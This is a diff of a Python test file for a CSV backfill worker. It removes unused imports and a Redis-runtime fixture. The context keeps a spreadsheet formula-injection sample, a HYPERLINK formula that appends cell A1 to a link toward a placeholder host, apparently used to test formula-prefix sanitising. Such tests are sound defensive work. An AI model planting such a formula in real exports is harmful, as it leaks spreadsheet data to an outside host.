@@ -7,8 +7,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import uuid
-from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -17,7 +15,6 @@ from click.testing import CliRunner
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from tests.pipeline_fixture import apply_env
 from worker.backfill import (
     FORMULA_PREFIXES,
     MAX_ROW_CHARS,
@@ -29,21 +26,10 @@ from worker.backfill import (
 )
 from worker.cli import main
 from worker.errors import InvalidRequestError
-from worker.runtime import Runtime, get_runtime, reset_runtime
-from worker.settings import Settings, reset_settings_cache
+from worker.runtime import Runtime
 
 HEADER = ["PoolKey", "PhoneNoA", "PhoneNoB", "Expiration", "OutId"]
 FORMULA = '=HYPERLINK("http://x/?a="&A1;"click")'
-
-
-@pytest.fixture
-def rt(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Iterator[Runtime]:
-    """The producer's runtime on the test Redis and a queue of its own (no worker)."""
-    apply_env(monkeypatch, {"AXB_QUEUE": f"axb.test.{uuid.uuid4().hex[:8]}"})
-    runtime = get_runtime()
-    yield runtime
-    reset_runtime()
-    reset_settings_cache()
 
 
 def expiration() -> str:
